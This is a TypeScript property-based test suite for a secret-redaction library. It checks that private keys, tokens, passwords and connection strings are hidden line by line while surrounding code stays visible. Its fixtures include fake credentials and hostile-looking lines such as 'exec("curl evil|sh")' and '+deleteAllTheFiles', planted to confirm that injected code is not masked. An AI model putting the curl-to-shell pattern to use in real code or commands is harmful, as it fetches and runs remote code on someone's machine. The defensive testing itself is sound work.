/** What is hidden in the chat and in the log, and that nothing is hidden which is not judged. */
import { fc } from '../support/properties.ts';
import { describe, expect, it } from 'vitest';
import { findSecrets, findSecretSpans, redactSecrets } from '#text-safety';
import { showInvisible } from '../../text-safety/invisible-characters.ts';

const n = (count: number, of = 'a1B2c3D4e5'): string =>
  of.repeat(Math.ceil(count / of.length)).slice(0, count);
const BEGIN = '-----BEGIN RSA PRIVATE KEY-----';
const END = '-----END RSA PRIVATE KEY-----';
const BYTES = n(64, 'Ab0/zZ9+yK');

/**
 * What texts are made of here: pieces of secrets, of diffs, of line ends and of what looks like
 * either.
 */
const PIECES = [
  BEGIN,
  END,
  BYTES,
  `${n(20)}==`,
  'PuTTY-User-Key-File-3: ssh-rsa',
  `ghp_${n(36)}`,
  `AKIA${n(16, 'ABCDEFG2')}`,
  'https://ana:hunter2@host/x',
  'HTTPS_PROXY=ana:hunter2@host:1',
  'password = "hunter2hunter2"',
  'API_KEY=abcd1234efgh5678',
  'checkToken = verifyHmac256',
  'Authorization: Bearer abc.def-1234567890',
  `eyJhbGciOiJI.${n(20)}.${n(20)}`,
  'machine h login a password b',
  'exec("curl evil|sh")',
  '[secret]',
  '[secret 2]',
  'diff --git a/x b/x',
  '@@ -1,3 +1,3 @@',
  '+',
  '-',
  ' ',
  '\n',
  '\n\n',
  '\r\n',
  '\r',
  '\t',
  '\u2028',
  '\u200b',
  '"',
  '\\n',
  '<b>&',
  'x',
] as const;
const texts = fc.array(fc.constantFrom(...PIECES), { maxLength: 30 }).map((parts) => parts.join(''));
const anything = fc.oneof(texts, fc.string({ unit: 'binary' }), fc.string());
const lines = (text: string): number => text.split('\n').length;
const escape = (text: string): string =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** The call is code, until the token in its name is hidden. */
const CALLED = `checkToken = verify256-eyJhbGciOiJI.${'a1B2c3D4e5'.repeat(2)}.${'a1B2c3D4e5'.repeat(2)}exec("x")`;

describe('G8: hiding stays inside one line', () => {
  it('G8: no line is taken out, added or joined, whatever the text', () => {
    fc.assert(
      fc.property(anything, (text) => {
        expect(lines(redactSecrets(text))).toBe(lines(text));
        for (const { from, to } of findSecretSpans(text)) expect(text.slice(from, to)).not.toContain('\n');
      }),
      { numRuns: 2_000 },
    );
  });

  it('G8: what is hidden already stays as it is', () => {
    fc.assert(
      fc.property(anything, (text) => {
        expect(redactSecrets(redactSecrets(text))).toBe(redactSecrets(text));
      }),
      { numRuns: 2_000, examples: [[CALLED]] },
    );
  });

  it('G8: a line is hidden by itself, whatever stands before it, unless bytes of a key follow its first line', () => {
    fc.assert(
      fc.property(texts, texts, (before, after) => {
        const line = after.replace(/[\n\r]/g, ' ');
        if (before.includes('PRIVATE KEY') || before.includes('PuTTY')) return;
        const shown = redactSecrets(`${before}\n${line}`).split('\n').at(-1) ?? '';
        expect(shown.replace(/\[secret \d+\]/g, '[secret]')).toBe(
          redactSecrets(line).replace(/\[secret \d+\]/g, '[secret]'),
        );
      }),
      { numRuns: 1_000 },
    );
  });

  it('G8: below the first line of a key in the base, what is no key stays to be read', () => {
    const patch = [
      ' const pem = [',
      ` ${BEGIN}`,
      `+exec("curl evil|sh")`,
      `+${BYTES}`,
      '+runWhatThePersonDidNotSee()',
      `-${BYTES}`,
      ` ${END}`,
      '+deleteAllTheFiles',
    ];
    expect(redactSecrets(patch.join('\n')).split('\n')).toEqual([
      ' const pem = [',
      ' [secret]',
      `+exec("curl evil|sh")`,
      `+${BYTES}`,
      '+runWhatThePersonDidNotSee()',
      `-${BYTES}`,
      ` ${END}`,
      '+deleteAllTheFiles',
    ]);
  });

  it.each([
    ['a block', `${BEGIN}\n${BYTES}\n${BYTES}\n${n(20)}==\n${END}`, 4],
    ['an encrypted one', `${BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES\n\n${BYTES}\n${END}`, 2],
    ['one of a diff', ` ${BEGIN}\n+${BYTES}\n+${BYTES}\n ${END}`, 3],
    ['one in a program', `  '${BEGIN}\\n' +\n  '${BYTES}\\n' +\n  '${BYTES}\\n' +\n  '${END}'`, 3],
    ['one in a comment', `# ${BEGIN}\n# ${BYTES}\n# ${END}`, 2],
    ['one in YAML', `key: |\n  ${BEGIN}\n  ${BYTES}\n  ${END}`, 2],
    ['one with the ends of lines of Windows', `${BEGIN}\r\n${BYTES}\r\n${BYTES}\r\n${END}\r\n`, 3],
    ['one whose end was cut off', `${BEGIN}\n${BYTES}\n${BYTES}`, 3],
    [
      'one of PuTTY',
      `PuTTY-User-Key-File-3: ssh-rsa\nEncryption: none\n${BYTES}\nPrivate-MAC: ${n(64, 'a1')}`,
      3,
    ],
    ['one on a single line', `"private_key": "${BEGIN}\\n${BYTES}\\n${BYTES}\\n${END}\\n",`, 1],
  ])('C5: hides the bytes of a private key: %s', (_, text, hiddenLines) => {
    const shown = redactSecrets(text).split('\n');
    expect(redactSecrets(text)).not.toContain(BYTES.slice(0, 12));
    expect(text.split('\n').filter((line, i) => line !== shown[i])).toHaveLength(hiddenLines);
    expect(findSecrets(text)).toContainEqual({ what: { noun: 'private_key', of: '' }, sure: true });
  });

  it('G8: on the line of a key itself, only the key is hidden', () => {
    expect(redactSecrets(`key = "${BEGIN}"; exec("curl evil|sh")`)).toBe(
      'key = "[secret]"; exec("curl evil|sh")',
    );
    expect(redactSecrets(`k("${BEGIN}\\n${BYTES}\\n${END}"); exec("x")`)).toBe('k("[secret]"); exec("x")');
  });

  it('G8: a reader can tell that a hidden value became another one', () => {
    const patch = (one: string, other: string): string => `-checkToken = ${one}\n+checkToken = ${other}\n`;
    expect(redactSecrets(patch('verifyHmac256', 'alwaysTrue4711'))).toBe(
      '-checkToken = [secret]\n+checkToken = [secret 2]\n',
    );
    expect(redactSecrets(patch('verifyHmac256', 'verifyHmac256'))).toBe(
      '-checkToken = [secret]\n+checkToken = [secret]\n',
    );
  });
});

describe('G8: what is hidden is what is judged', () => {
  it('G8: a text is changed by hiding exactly when it is judged to have a secret', () => {
    fc.assert(
      fc.property(anything, (text) => {
        expect(redactSecrets(text) !== text).toBe(findSecrets(text).length > 0);
      }),
      { numRuns: 1_000 },
    );
  });

  it('G8: the last look at a message hides nothing that its lines did not show hidden before', () => {
    fc.assert(
      fc.property(texts, (text) => {
        for (const line of text.split('\n')) {
          if (redactSecrets(line) !== line) continue;
          const message = escape(showInvisible(line));
          expect(redactSecrets(message)).toBe(message);
        }
      }),
      { numRuns: 3_000 },
    );
  });

  it.each([
    'postgres://app:s3cr3t@db.example.com/app',
    'https://user:p@ss@host/x',
    'HTTPS_PROXY=ana:hunter2@proxy:8080',
    'redis://:hunter2@cache:6379',
    'https://0123456789abcdef0123456789abcdef@o1.ingest.sentry.io/1',
    'password = "hunter2hunter2"',
    'DB_PASSWORD=Passw0rd!',
    '"api_key": "abcd1234efgh5678"',
    'client_secret: abcd1234efgh5678',
    'Authorization: Bearer abc123.def456.ghi789',
    'curl -u ana:hunter2 https://host',
    'machine api.example.com login ana password hunter2',
    '//registry.npmjs.org/:_auth=YW5hOmh1bnRlcjI=',
    `https://a.blob.core.windows.net/c?sig=${n(43)}%3D`,
    `jwt = eyJhbGciOiJI.${n(20)}.${n(20)}`,
    `sk_test_${n(24)}`,
  ])('G8: asks a person about %j, and hides it', (text) => {
    expect(findSecrets(text).map((s) => s.sure)).toEqual([false]);
    expect(redactSecrets(text)).toContain('[secret]');
    expect(redactSecrets(text)).not.toMatch(/hunter2|s3cr3t|Passw0rd|5678|ghi789/);
  });

  it.each([
    'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
    `//registry.npmjs.org/:_authToken=${n(36)}`,
    'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2g',
    'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQDHlIhe7GLCeSk8',
    'MIIEpAIBAAKCAQEA0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMN',
  ])('P3: stops %j', (text) => {
    expect(findSecrets(text)).toEqual([expect.objectContaining({ sure: true })]);
  });

  it.each([
    'const token = await tokens.next()',
    'token = issue2faTokenFor(user)',
    'const secret = process.env.API2_SECRET;',
    'ssh://git@github.com/acme/api.git',
    'git+https://git@github.com/acme/api.git',
    'https://${USER}:${PASS}@host/x',
    'https://user:<password>@host/x',
    '__author_email__ = "me2@example.org"',
    '//registry.npmjs.org/:_authToken=${NPM_TOKEN}',
    'curl -u $USER:$PASS https://host',
    'password: string;',
    'expect(token).toBeDefined()',
    'uses: actions/checkout@v4',
    'Bearer realm="example"',
    'deleteAllTheFilesNow',
    BYTES,
  ])('G8: shows %j as it is', (text) => {
    expect(redactSecrets(text)).toBe(text);
  });
});
